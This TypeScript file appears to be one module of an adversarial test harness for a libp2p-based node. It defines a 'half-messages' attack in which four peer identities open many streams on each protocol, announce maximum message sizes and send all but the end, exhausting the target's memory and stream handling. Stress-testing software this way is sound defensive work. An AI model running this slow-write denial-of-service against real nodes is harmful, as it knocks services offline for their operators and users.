import type { Attack } from '../attack.ts';
import { crowd, rest } from '../attacker/crowd.ts';
import { varint } from '../attacker/protobuf.ts';
import { pushAll } from '../attacker/raw-peer.ts';
import { libp2pProtocols, servedProtocols } from '../attacker/served-protocols.ts';

/** What a message is said to have: under what libp2p's protocols allow, so that it is waited for. */
const ANNOUNCED_BYTES = 4_000_000;
/** Streams that each identity opens on each protocol. */
const STREAMS = 8;

/** Whoever reads a message that never ends holds what it has of it. */
export const halfMessages: Attack = {
  name: 'half-messages',
  what: 'four identities send all but the end of the largest message that each protocol takes, on several streams',
  answers: 'slow writers, memory',
  quick: false,
  async run(context) {
    const { victim, cid, networkName, arena } = context;
    const peers = await crowd(context, 4);
    const piece = new Uint8Array(100_000);
    let [opened, sentBytes] = [0, 0];
    const press = async (peer: (typeof peers)[number], id: string, head: Uint8Array, bytes: number) => {
      try {
        const stream = await peer.open(victim.address, id);
        peer.streams.push(stream);
        opened += 1;
        await pushAll(stream, head);
        for (let sent = 0; sent < bytes && context.pressing(); sent += piece.length) {
          if (!(await pushAll(stream, piece.subarray(0, Math.min(piece.length, bytes - sent))))) break;
          sentBytes += piece.length;
        }
      } catch {
        // No more streams of this kind.
      }
    };
    await Promise.all(
      peers.map(async (peer) => {
        for (let turn = 0; turn < STREAMS && context.pressing(); turn++) {
          await Promise.all([
            ...libp2pProtocols(networkName).map((id) =>
              press(peer, id, varint(ANNOUNCED_BYTES), ANNOUNCED_BYTES - 1_000),
            ),
            ...servedProtocols(cid).map(({ name, limits }) => {
              const header = Buffer.alloc(4);
              header.writeUInt32BE(limits.maxRequestBytes);
              return press(peer, `/alice/${networkName}/${name}/1`, header, limits.maxRequestBytes - 1);
            }),
          ]);
        }
      }),
    );
    while (context.pressing()) await rest(100);
    await arena.ask('say', `${opened} streams, ${(sentBytes / 1e6).toFixed(0)} MB sent`);
    return [{ what: 'halves were sent', holds: sentBytes > 0, found: `${sentBytes} bytes on ${opened} streams` }];
  },
};
